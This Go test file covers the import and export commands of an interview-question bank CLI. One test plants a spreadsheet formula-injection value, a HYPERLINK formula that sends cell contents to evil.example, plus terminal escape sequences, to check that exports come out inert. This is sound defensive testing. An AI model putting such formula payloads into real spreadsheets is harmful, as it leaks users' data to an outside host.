package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/interviewbot/interviewbot/storage"
	"github.com/interviewbot/interviewbot/storage/storagetest"
)

// cliOut runs `interviewbot questions …` and keeps stdout and stderr apart.
func cliOut(t *testing.T, dsn string, args ...string) (stdout, stderr string, err error) {
	t.Helper()
	var out, errOut bytes.Buffer
	err = run(context.Background(), append([]string{"questions"}, args...), func(k string) string {
		if k == "DATABASE_URL" {
			return dsn
		}
		return ""
	}, strings.NewReader(""), &out, &errOut)
	return out.String(), errOut.String(), err
}

func mustCLI(t *testing.T, dsn string, args ...string) string {
	t.Helper()
	out, errOut, err := cliOut(t, dsn, args...)
	if err != nil {
		t.Fatalf("questions %s: %v\n%s%s", strings.Join(args, " "), err, out, errOut)
	}
	return out
}

// exportCSV exports the team's bank and parses it.
func exportCSV(t *testing.T, dsn, team string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(mustCLI(t, dsn, "export", "--team", team))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

func writeCSV(t *testing.T, path string, recs [][]string) {
	t.Helper()
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	if err := w.WriteAll(recs); err != nil {
		t.Fatal(err)
	}
	writeFile(t, path, b.String())
}

func teamTexts(t *testing.T, dsn, team string) []string {
	t.Helper()
	db, err := storage.Open(context.Background(), dsn, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	qs, err := db.TeamQuestions(context.Background(), team)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, q := range qs {
		out = append(out, q.ID+" "+q.Text)
	}
	return out
}

// TestQuestionsImportByID: the export's id column makes the spreadsheet
// round trip lossless: a reworded row updates its question in place, a
// dry run says what an import would do and writes nothing, and sync
// removes what the sheet no longer has.
func TestQuestionsImportByID(t *testing.T) {
	t.Parallel()
	dsn := storagetest.NewDSN(t)
	mustCLI(t, dsn, "import", "--team", "T0TEST", filepath.Join("testdata", "team-bank.csv"))
	recs := exportCSV(t, dsn, "T0TEST")
	if strings.Join(recs[0], ",") != "id,role,category,question,guidance,follow_ups" || len(recs) != 4 || recs[1][0] != "team-1" {
		t.Fatalf("export:\n%q", recs)
	}
	before := teamTexts(t, dsn, "T0TEST")

	// Reword row 1 and drop row 3, as someone editing the sheet would.
	edited := [][]string{recs[0], recs[1], recs[2]}
	edited[1][3] = "How do you size a Postgres connection pool for 40 replicas?"
	sheet := filepath.Join(t.TempDir(), "sheet.csv")
	writeCSV(t, sheet, append(edited, []string{"", "sbe", "tech", "What does a connection pooler cost you?", "", ""}))

	out := mustCLI(t, dsn, "import", sheet, "--team", "T0TEST", "--dry-run", "--sync")
	for _, want := range []string{
		"1 added, 1 updated, 1 removed, 1 unchanged for team T0TEST (dry run: nothing written)",
		"  + new senior-backend/technical: What does a connection pooler cost you?",
		"  ~ team-1 senior-backend/technical: How do you size a Postgres connection pool for 40 replicas?",
		"  - team-3 business-analyst/requirements: How do you handle a stakeholder",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("dry run output lacks %q:\n%s", want, out)
		}
	}
	if after := teamTexts(t, dsn, "T0TEST"); strings.Join(after, "|") != strings.Join(before, "|") {
		t.Errorf("a dry run changed the bank:\n%q", after)
	}

	out = mustCLI(t, dsn, "import", "--team", "T0TEST", sheet)
	if !strings.Contains(out, "1 added, 1 updated, 0 removed, 1 unchanged") {
		t.Errorf("import without sync: %s", out)
	}
	got := teamTexts(t, dsn, "T0TEST")
	if len(got) != 4 || got[0] != "team-1 How do you size a Postgres connection pool for 40 replicas?" {
		t.Errorf("after the import (the reworded row must keep team-1, and nothing be duplicated):\n%q", got)
	}
	out = mustCLI(t, dsn, "import", "--team", "T0TEST", "--sync", sheet)
	if !strings.Contains(out, "0 added, 0 updated, 1 removed, 3 unchanged") {
		t.Errorf("import with sync: %s", out)
	}
	if got := teamTexts(t, dsn, "T0TEST"); len(got) != 3 || strings.Contains(strings.Join(got, "|"), "stakeholder") {
		t.Errorf("after sync: %q", got)
	}
}

// TestQuestionsImportSemicolonCSV: German Excel's "CSV (semicolon)" with a
// byte order mark and CRLF line ends imports like a comma-separated file.
func TestQuestionsImportSemicolonCSV(t *testing.T) {
	t.Parallel()
	dsn := storagetest.NewDSN(t)
	sheet := filepath.Join(t.TempDir(), "fragen.csv")
	writeFile(t, sheet, "\xef\xbb\xbfrole;category;question;guidance;follow_ups\r\n"+
		"sbe;tech;Wie skaliert man, ganz konkret, einen Schreib-Hotspot?;\"Sharding\r\nQueues\";\r\n"+
		"Senior Backend Engineer;behavioural;Erzählen Sie von einem Ausfall.;;Was würden Sie anders machen?\r\n")
	out := mustCLI(t, dsn, "import", "--team", "T0TEST", sheet)
	if !strings.Contains(out, "2 added") {
		t.Errorf("import: %s", out)
	}
	recs := exportCSV(t, dsn, "T0TEST")
	if len(recs) != 3 || recs[1][3] != "Wie skaliert man, ganz konkret, einen Schreib-Hotspot?" || recs[1][4] != "Sharding\nQueues" || recs[2][2] != "behavioral" {
		t.Errorf("export after a semicolon import:\n%q", recs)
	}
}

// TestQuestionsExportNothing: exporting a team with nothing of its own (a
// mistyped --team, most often) says so on stderr, writes nothing and exits
// non-zero, instead of printing a bare header as if all went well.
func TestQuestionsExportNothing(t *testing.T) {
	t.Parallel()
	dsn := storagetest.NewDSN(t)
	mustCLI(t, dsn, "import", "--team", "T0TEST", filepath.Join("testdata", "team-bank.csv"))
	out, errOut, err := cliOut(t, dsn, "export", "--team", "TWRONG")
	if err == nil || out != "" || !strings.Contains(err.Error(), "team TWRONG has no questions, roles or categories of its own") {
		t.Errorf("export --team TWRONG: err %v, stdout %q, stderr %q", err, out, errOut)
	}
	file := filepath.Join(t.TempDir(), "backup.csv")
	if _, _, err := cliOut(t, dsn, "export", "--team", "TWRONG", "--out", file); err == nil {
		t.Error("export --out of an empty team succeeded")
	}
	if _, err := os.Stat(file); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("export of an empty team created %s: %v", file, err)
	}
}

// TestQuestionsExportFormula: a question that a spreadsheet would run as a
// formula, or that carries terminal escapes, is exported inert; importing
// the export gives back the text (issue 17).
func TestQuestionsExportFormula(t *testing.T) {
	t.Parallel()
	dsn := storagetest.NewDSN(t)
	bank := filepath.Join(t.TempDir(), "bank.yaml")
	writeFile(t, bank, `questions:
  - role: sbe
    category: tech
    question: '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    guidance: ["+1 for idempotency", "@mention the owner"]
    follow_ups: ["-1 if no rollback plan"]
  - role: sbe
    category: tech
    question: "Colours \e[31mred\e[0m and a bell\a?"
`)
	mustCLI(t, dsn, "import", "--team", "T0TEST", bank)
	out, errOut, err := cliOut(t, dsn, "export", "--team", "T0TEST")
	if err != nil {
		t.Fatal(err, errOut)
	}
	if strings.ContainsAny(out, "\x1b\a") {
		t.Errorf("the export carries control characters:\n%q", out)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("cell %q runs as a formula in a spreadsheet", cell)
			}
		}
	}
	sheet := filepath.Join(t.TempDir(), "export.csv")
	writeFile(t, sheet, out)
	mustCLI(t, dsn, "import", "--team", "T0OTHER", sheet)
	got := teamTexts(t, dsn, "T0OTHER")
	want := []string{`team-3 =HYPERLINK("http://evil.example/?"&A1,"Click me")`, "team-4 Colours [31mred[0m and a bell?"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("the export imports as\n%q\nwant\n%q", got, want)
	}
}

// TestQuestionsImportTooLarge: a file over 8 MiB is refused whole; before,
// it was cut at the limit and imported up to a half-read row (issue 17).
func TestQuestionsImportTooLarge(t *testing.T) {
	t.Parallel()
	dsn := storagetest.NewDSN(t)
	var b strings.Builder
	b.WriteString("role,category,question,guidance\n")
	item := strings.Repeat("g", 490)
	for i := 0; b.Len() <= 8<<20; i++ {
		fmt.Fprintf(&b, "sbe,tech,Question number %d?,\"%s\"\n", i, strings.Repeat(item+"\n", 8))
	}
	big := filepath.Join(t.TempDir(), "big.csv")
	writeFile(t, big, b.String())
	_, _, err := cliOut(t, dsn, "import", "--team", "T0TEST", big)
	if err == nil || !strings.Contains(err.Error(), "larger than 8 MiB") || !strings.Contains(err.Error(), "nothing imported") {
		t.Errorf("import of a %d-byte file: %v", b.Len(), err)
	}
	if got := teamTexts(t, dsn, "T0TEST"); len(got) != 0 {
		t.Errorf("%d questions imported from a file over the limit", len(got))
	}
}

// TestQuestionsExportYAMLRoles: the YAML export carries the team's roles
// and categories, and imports into another team as the same bank; a CSV
// export says on stderr that it cannot.
func TestQuestionsExportYAMLRoles(t *testing.T) {
	t.Parallel()
	dsn := storagetest.NewDSN(t)
	dir := t.TempDir()
	src := filepath.Join(dir, "team.yaml")
	writeFile(t, src, `roles:
  - slug: data-engineer
    title: Data Engineer
    skills: [SQL]
categories:
  - role: data-engineer
    slug: pipelines
    title: Pipelines
    questions:
      - question: How do you backfill?
`)
	out := mustCLI(t, dsn, "import", "--team", "T0TEST", src)
	if !strings.Contains(out, "roles: added data-engineer") || !strings.Contains(out, "categories: added data-engineer/pipelines") {
		t.Errorf("import: %s", out)
	}
	exported := filepath.Join(dir, "export.yaml")
	if _, errOut, err := cliOut(t, dsn, "export", "--team", "T0TEST", "--out", exported); err != nil || !strings.Contains(errOut, "1 question of team T0TEST") {
		t.Fatalf("export: %v %s", err, errOut)
	}
	out = mustCLI(t, dsn, "import", "--team", "T0COPY", exported)
	if !strings.Contains(out, "1 added") || !strings.Contains(out, "roles: added data-engineer") {
		t.Errorf("import of the export into another team: %s", out)
	}
	if _, errOut, err := cliOut(t, dsn, "export", "--team", "T0TEST"); err != nil || !strings.Contains(errOut, "the team's 1 role and 1 category are in the YAML export") {
		t.Errorf("CSV export of a team with roles: %v, stderr %q", err, errOut)
	}
}
